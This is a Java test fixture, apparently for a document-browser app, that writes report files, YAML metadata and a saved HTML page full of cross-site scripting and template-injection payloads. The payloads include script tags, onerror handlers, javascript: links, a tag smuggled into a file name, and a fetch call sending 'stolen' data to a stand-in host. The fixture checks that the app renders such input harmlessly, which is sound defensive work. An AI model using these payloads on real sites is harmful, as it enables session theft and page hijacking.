package dossier.browser;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/** Reports that try to run scripts in the reader's browser. Their payloads all leave traces. */
final class Hostile {

  /** The one whose title and metadata are an editor's. */
  static final String LABELLED = "hostile-labelled";

  /** The one that is a web page. */
  static final String PAGE = "hostile-page";

  /** What must never come true: the page's script is named, a box opens, or a request leaves. */
  private static final String SCRIPT =
      "<script>window.broken=1;alert(1);fetch('http://elsewhere.invalid/stolen')</script>";

  private static final String IMAGE =
      "\"'><img src=http://elsewhere.invalid/pixel.png onerror=\"window.broken=1;alert(2)\">";

  private static final String TEMPLATE = "{{7*7}}${7*7}{% include 'layout' %}";

  private Hostile() {}

  static void write(Path folder) throws IOException {
    Files.createDirectories(folder);
    Path labelled = folder.resolve("<img src=x onerror=alert(3)>.txt");
    Files.writeString(labelled, text());
    Files.writeString(labelled.resolveSibling(labelled.getFileName() + ".yaml"), sidecar());
    Files.writeString(folder.resolve("page.html"), page());
    Files.writeString(folder.resolve("page.html.yaml"), "id: " + PAGE + "\n");
  }

  private static String text() {
    return """
    %s

    The kraken report %s has a paragraph of markup that has to stay a paragraph of text, and \
    a kraken word %s between the tags so that a search for it cuts the snippet right there.

    1. First kraken </li></ul></mark>%s
    2. Second kraken javascript:alert(4) <a href="javascript:window.broken=1">click</a>

    <svg onload=alert(5)></svg><iframe srcdoc="<script>parent.broken=1</script>"></iframe> \
    <style>body{display:none}</style> kraken %s
    """
        .formatted(SCRIPT, SCRIPT, IMAGE, SCRIPT, TEMPLATE);
  }

  private static String sidecar() {
    return """
    id: %s
    title: '</title><script>window.broken=1;alert(6)</script>"><img src=x onerror=alert(7)>'
    series: '<b onmouseover=alert(8)>Series</b> {{7*7}}'
    volume: '"><script>alert(9)</script>'
    issue: '<i>1</i>'
    published: 2021-03-04
    authors: ['<script>alert(10)</script>', 'javascript:alert(11)']
    summary: '<script>window.broken=1</script> kraken {{7*7}} </p></section><h1>Broken out</h1>'
    regions: [kazakhstan]
    threats: [cyber]
    """
        .formatted(LABELLED);
  }

  private static String page() {
    return """
    <!doctype html><html lang="en"><head><title>Kraken page %s</title>
    <meta name="author" content="&lt;script&gt;alert(12)&lt;/script&gt;">
    <meta http-equiv="refresh" content="0;url=http://elsewhere.invalid/">
    <base href="http://elsewhere.invalid/">
    <link rel="stylesheet" href="http://elsewhere.invalid/style.css">%s</head>
    <body onload="window.broken=1;alert(13)"><h1>Kraken page</h1>
    <p>The kraken page is a saved web page with everything a page can do wrong.</p>
    <p><a href="javascript:alert(14)">A kraken link</a> %s</p>
    <form action="http://elsewhere.invalid/"><button>Send</button></form></body></html>
    """
        .formatted(TEMPLATE, SCRIPT, "<img src=http://elsewhere.invalid/p.png onerror=alert(15)>");
  }
}
